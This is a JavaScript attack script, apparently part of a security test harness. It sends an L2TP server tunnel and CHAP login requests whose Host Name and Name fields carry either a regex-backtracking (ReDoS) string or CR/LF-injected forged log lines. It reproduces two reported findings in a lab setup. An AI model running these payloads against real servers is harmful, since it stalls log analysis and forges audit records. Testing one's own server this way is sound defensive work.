/**
 * Attack script (runs in the attacker namespace), issue 12 findings 1 and 10:
 * peer-chosen strings that end up in the server's log. An L2TP tunnel whose
 * SCCRQ Host Name is the payload (no authentication needed for the
 * tunnel-up line), then `count` calls whose CHAP Response carries the
 * payload as the Name with a wrong Value (a failed login, logged with the
 * name).
 *   redos: ` a="` repeated to the largest AVP (1017 octets of value), the
 *          string that made the doctor's regular expression backtrack for minutes
 *   forge: CR/LF and a whole forged line (the last argument)
 * Args: server, mode, count, forged line. Prints `DONE tunnel=up|down calls=N failure=F success=S unanswered=U`.
 */
import { runScriptedCalls } from './scripted-calls.js';

const [server = '10.201.0.1', mode = 'redos', countArg = '2', forgedLine = 'FORGED'] = process.argv.slice(2);
const payload = mode === 'forge' ? `x\r\n${forgedLine}\r\n${forgedLine}\n` : ' a="'.repeat(254);
const tally = await runScriptedCalls({
  server,
  count: Number(countArg),
  hostName: payload,
  answer: () => ({ value: new Uint8Array(16), name: payload }),
  waitMs: 5000,
  gapMs: 200,
  overallMs: 30_000,
});
console.log(`DONE tunnel=${tally.tunnel} calls=${tally.calls} failure=${tally.failure} success=${tally.success} unanswered=${tally.unanswered}`);
process.exit(0);
